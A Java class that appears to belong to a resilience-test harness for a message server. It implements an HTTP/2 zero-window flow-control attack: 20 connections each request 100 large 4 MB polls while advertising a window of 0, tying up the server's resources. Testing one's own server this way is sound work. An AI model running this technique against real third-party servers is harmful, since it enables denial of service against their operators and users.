package dev.belfry.attack.strangers;

import dev.belfry.attack.stage.Http2Frames;
import dev.belfry.attack.stage.Stage;
import java.io.IOException;

/** Flow control as a weapon: the server may not send a byte of 2,000 answers. */
final class Http2WindowZero implements Attack {
    private static final int CONNECTIONS = 20;
    private static final int POLLS_EACH = 100;

    @Override
    public String name() {
        return "h2-window-zero";
    }

    @Override
    public String what() {
        return CONNECTIONS + " connections of HTTP/2 with window 0 and " + POLLS_EACH + " polls for 4 MB each";
    }

    @Override
    public void prepare(Stage stage) throws IOException {
        stage.publishLarge();
    }

    @Override
    public void run(Stage stage) throws IOException {
        Http2Frames frames = Http2Frames.connection(0);
        for (int i = 0; i < POLLS_EACH; i++) {
            frames.get(2 * i + 1, "topic=" + Stage.LARGE + "&after=earliest&limit=1");
        }
        byte[] bytes = frames.bytes();
        stage.crowd().gather(CONNECTIONS, stranger -> stranger.send(bytes));
        stage.hold();
    }
}
